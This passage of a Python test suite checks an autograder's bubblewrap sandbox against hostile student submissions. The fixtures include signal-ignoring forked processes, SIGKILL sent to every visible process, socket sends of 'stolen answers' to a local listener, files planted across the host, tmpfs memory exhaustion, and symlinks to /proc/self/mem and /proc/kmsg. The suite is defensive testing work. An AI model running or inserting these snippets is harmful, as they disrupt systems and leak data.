                     "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)\\n"
                     "while True: time.sleep(1)", M])
        os._exit(0)
    os.waitpid(pid, 0)
    if os.fork() == 0:
        with open("/proc/self/comm", "w") as comm:
            comm.write(M)
        _spin()
    threading.Thread(target=_spin, daemon=True).start()
    threading.Thread(target=_spin, daemon=False).start()

_spawn()

def conv2d_forward(x, w, b, stride=1, pad=0):
    return np.zeros(1), None

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
'''


@sandboxed
def test_processes_and_threads_started_by_the_submission_do_not_outlive_grading(tmp_path):
    token = marker("outlive")
    rubrics = course_rubrics(others=1)
    graded = run_grade(tmp_path / "s", {"conv": fill(OUTLIVE, MARKER=token)}, rubrics)
    assert_gains_nothing(graded, rubrics)
    assert all(graded.full(r.exercise) for r in rubrics if r.exercise != "conv")
    assert lingering(token) == []


KILL_EVERYONE = '''
import os, signal
import numpy as np

def conv2d_forward(x, w, b, stride=1, pad=0):
    for target in (os.getppid(), 1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return np.zeros(1), None

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
'''


@sandboxed
def test_signalling_every_process_it_can_see_does_not_reach_the_grader(tmp_path):
    rubrics = course_rubrics(others=1)
    graded = run_grade(tmp_path / "s", {"conv": KILL_EVERYONE}, rubrics)
    assert_gains_nothing(graded, rubrics)
    assert all(graded.full(r.exercise) for r in rubrics if r.exercise != "conv")
    assert lingering("__never__") == []


NETWORK = '''
import socket
import numpy as np

def _reach_out():
    outcome = []
    attempts = [
        ("tcp", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@)),
        ("udp", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT@)),
        ("unix", socket.AF_UNIX, socket.SOCK_STREAM, "\\0@MARKER@"),
    ]
    for name, family, kind, address in attempts:
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(0.5)
                s.connect(address)
                s.sendall(b"@MARKER@ stolen answers")
                outcome.append(name + " sent")
        except OSError as error:
            outcome.append(name + " " + type(error).__name__)
    return outcome

def conv2d_forward(x, w, b, stride=1, pad=0):
    raise ValueError("NETWORK " + ", ".join(_reach_out()))

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
'''


@sandboxed
def test_the_submission_cannot_reach_a_listener_on_the_graders_machine(tmp_path):
    token = marker("net")
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as tcp, \
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp, \
            socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix:
        tcp.bind(("127.0.0.1", 0))
        tcp.listen(8)
        port = tcp.getsockname()[1]
        udp.bind(("127.0.0.1", port))
        unix.bind("\0" + token)
        unix.listen(8)
        graded = run_grade(tmp_path / "s", {"conv": fill(NETWORK, PORT=port, MARKER=token)}, conv_rubrics())
        for listener in (tcp, unix):
            listener.setblocking(False)
            with pytest.raises(BlockingIOError):
                listener.accept()
        udp.setblocking(False)
        with pytest.raises(BlockingIOError):
            udp.recvfrom(4096)
    assert_gains_nothing(graded, conv_rubrics())
    shown = graded.public_messages("conv")
    assert "NETWORK tcp" in shown and "tcp sent" not in shown and "unix sent" not in shown, shown


WRITE_OUTSIDE = '''
import os
import numpy as np

TARGETS = ["/tmp/@MARKER@", os.path.expanduser("~/@MARKER@"), "@HOME@/@MARKER@",
           os.path.join(os.path.dirname(os.path.abspath(__file__)), "@MARKER@.py"), "@SUBMISSION@/@MARKER@.py",
           "@HOSTTMP@/@MARKER@", "@ROOT@/reference/@MARKER@.py", "/var/tmp/@MARKER@", "/dev/shm/@MARKER@"]

def _write_everywhere():
    done = []
    for target in TARGETS:
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "w") as file:
                file.write("planted")
            done.append(target)
        except OSError:
            pass
    return done

_write_everywhere()

def conv2d_forward(x, w, b, stride=1, pad=0):
    _write_everywhere()
    return np.zeros(1), None

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
'''


@sandboxed
def test_files_written_outside_the_worker_never_appear_on_the_host(tmp_path):
    token = marker("planted")
    submission = tmp_path / "s"
    source = fill(WRITE_OUTSIDE, MARKER=token, HOME=Path.home(), SUBMISSION=submission, HOSTTMP=tmp_path, ROOT=ROOT)
    targets = [Path("/tmp") / token, Path.home() / token, submission / f"{token}.py", tmp_path / token,
               ROOT / "reference" / f"{token}.py", Path("/var/tmp") / token, Path("/dev/shm") / token]
    try:
        graded = run_grade(submission, {"conv": source}, conv_rubrics())
        planted = [str(t) for t in targets if t.exists()]
    finally:
        for target in targets:
            target.unlink(missing_ok=True)
    assert planted == []
    assert_gains_nothing(graded, conv_rubrics())


PIN_MEMORY = '''
import os
import numpy as np

STATE = []

def _pin(limit):
    total, chunk = 0, b"\\0" * 2**20
    for k in range(4 * limit // (16 * 2**20)):
        try:
            with open(f"{'/tmp' if k % 2 else '/dev/shm'}/pin{k}", "wb") as file:
                for _ in range(16):
                    file.write(chunk)
                    total += len(chunk)
        except OSError:
            break
    return total

def conv2d_forward(x, w, b, stride=1, pad=0):
    if not STATE:
        STATE.append(_pin(@LIMIT@))
    raise ValueError(f"PINNED {STATE[0]} BYTES")

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
'''


@sandboxed
def test_memory_held_in_the_sandboxs_tmpfs_is_bounded_by_the_memory_limit(tmp_path):
    limit = 256 * 2**20
    sandbox = fast_sandbox(memory_bytes=limit, call_seconds=5)
    graded = run_grade(tmp_path / "s", {"conv": fill(PIN_MEMORY, LIMIT=limit)}, conv_rubrics(), sandbox=sandbox)
    assert_gains_nothing(graded, conv_rubrics())
    pinned = [int(word) for word in graded.public_messages("conv").split("PINNED ")[1:2][0].split()[:1]]
    assert pinned and pinned[0] <= limit, f"the worker held {pinned[0] / 2**20:.0f} MiB in files"


# -- the sandbox is really there --------------------------------------------------------------------


def test_without_bubblewrap_the_report_says_plainly_that_the_submission_was_not_sandboxed(tmp_path):
    rubrics = conv_rubrics()
    graded = run_grade(tmp_path / "s", {}, rubrics, sandbox=Sandbox(use_bubblewrap=False))
    assert graded.full("conv")
    for name in ("json", "markdown", "html", "terminal"):
        assert "NOT sandboxed" in graded.texts[name], name
    assert json.loads(graded.texts["json"])["sandbox"].startswith("NOT sandboxed")
    assert "NOT sandboxed" not in fast_sandbox().description or bubblewrap() is None


@pytest.mark.skipif(os.environ.get("CI", "").lower() not in ("true", "1"), reason="only CI must have bubblewrap")
def test_bubblewrap_is_available_in_ci_so_the_attack_suite_runs_sandboxed():
    assert bubblewrap() is not None, "CI must run the attack suite inside bubblewrap (apt-get install bubblewrap)"
    assert Sandbox().description.startswith("Sandboxed with bubblewrap")


# -- what a submission is made of: symlinks, malformed notebooks and zips, a batch that must go on --------------


def test_a_symlinked_folder_or_file_in_a_submission_is_not_followed_and_gains_nothing(tmp_path):
    submission = tmp_path / "s"
    (submission / "deeper").mkdir(parents=True)
    (submission / "stuff").symlink_to(REFERENCE_DIR, target_is_directory=True)
    (submission / "deeper" / "inside").symlink_to(REFERENCE_DIR, target_is_directory=True)
    (submission / "conv.py").symlink_to(REFERENCE_DIR / "conv.py")
    result = grade(submission, conv_rubrics(), identity=IDENTITY, sandbox=fast_sandbox())
    assert result.exercise("conv").score == 0
    assert "conv.py is missing" in result.exercise("conv").note


def test_a_notebook_with_non_string_sources_or_json_nested_too_deep_scores_zero_with_a_note(tmp_path):
    bad_source = build_notebook(tmp_path / "bad" / "conv.ipynb", "conv")
    notebook = json.loads(bad_source.read_text())
    for cell in notebook["cells"]:
        cell["source"] = [1, 2] if cell["cell_type"] == "code" else cell["source"]
    bad_source.write_text(json.dumps(notebook))
    deep = tmp_path / "deep" / "conv.ipynb"
    deep.parent.mkdir()
    deep.write_text("[" * 100_000 + "]" * 100_000)
    for submission in (bad_source.parent, deep.parent):
        result = grade(submission, conv_rubrics(), identity=IDENTITY, sandbox=fast_sandbox())
        assert result.exercise("conv").score == 0, submission.name
    assert "not a valid notebook" in result.exercise("conv").note


def test_a_module_nested_too_deeply_to_parse_scores_zero_with_a_note(tmp_path):
    for name, source in (("attributes", "x = a" + ".b" * 100_000 + "\n"), ("unary", "x = " + "-" * 100_000 + "1\n")):
        result = grade(build_submission(tmp_path / name, {"conv": source}), conv_rubrics(), identity=IDENTITY,
                       sandbox=fast_sandbox())
        assert result.exercise("conv").score == 0
        assert "nested too deeply" in result.exercise("conv").note, name


@pytest.mark.parametrize("file_first", [True, False])
def test_a_zip_holding_a_file_and_a_folder_of_the_same_name_is_graded_without_crashing(tmp_path, file_first):
    archive = tmp_path / "s.zip"
    members = [("conv.py", (REFERENCE_DIR / "conv.py").read_text()), ("conv.py/evil.py", "import os\n")]
    with zipfile.ZipFile(archive, "w") as zipped:
        for name, text in members if file_first else members[::-1]:
            zipped.writestr(name, text)
    result = grade(archive, conv_rubrics(), identity=IDENTITY, sandbox=fast_sandbox())
    conv = result.exercise("conv")
    assert conv.score == conv.max_score if file_first else "conv.py is missing" in conv.note


def test_a_batch_is_not_stopped_or_hung_by_symlinks_to_proc_mem_a_fifo_or_kmsg(tmp_path):
    classroom, out = tmp_path / "class", tmp_path / "out"
    build_submission(classroom / "alice")
    mallory = build_submission(classroom / "mallory")
    os.mkfifo(tmp_path / "fifo")
    (mallory / "notes.txt").symlink_to("/proc/self/mem")
    (mallory / "pipe.txt").symlink_to(tmp_path / "fifo")
    (mallory / "kmsg.txt").symlink_to("/proc/kmsg")
    batch = threading.Thread(target=run_batch, args=(classroom, out), kwargs={"jobs": 2}, daemon=True)
    batch.start()
    batch.join(timeout=300)
    assert not batch.is_alive(), "the batch hung on a symlink to a FIFO or /proc/kmsg"
    rows = (out / "gradebook.csv").read_text().splitlines()
    assert [row.split(",")[0] for row in rows[1:]] == ["alice", "mallory"]
    assert all(row.endswith(",graded") for row in rows[1:]), rows


def _grade_or_kill_the_pool_process(job) -> dict:
    """``grade_in_pool`` in a pool process, except that mallory's submission kills it (as the OOM killer would)."""
    if job.name == "mallory":
        os.kill(os.getpid(), signal.SIGKILL)
    return autograder.integrations.batch.grade_in_pool(job)


def test_a_batch_whose_pool_process_is_killed_still_grades_everyone_else_and_writes_the_gradebook(tmp_path,
                                                                                                  monkeypatch):
    classroom, out = tmp_path / "class", tmp_path / "out"
    for name in ("alice", "bob", "mallory", "zoe"):
        build_submission(classroom / name)
    monkeypatch.setattr(autograder.integrations.batch, "grade_in_pool", _grade_or_kill_the_pool_process)
    summary = run_batch(classroom, out, jobs=2)
    rows = {row.split(",")[0]: row for row in (out / "gradebook.csv").read_text().splitlines()[1:]}
    assert set(rows) == {"alice", "bob", "mallory", "zoe"}
    assert rows["mallory"].endswith(",error") and summary.errors == 1
    assert all(rows[name].endswith(",graded") for name in ("alice", "bob", "zoe")), rows
    report = json.loads((out / "submissions" / "mallory" / "report.json").read_text())
    assert "killed" in report["exercises"][0]["note"]
    again = run_batch(classroom, out, jobs=2)  # a lost process is the infrastructure's failure: tried again, alone
    assert (again.graded, again.skipped) == (1, 3)
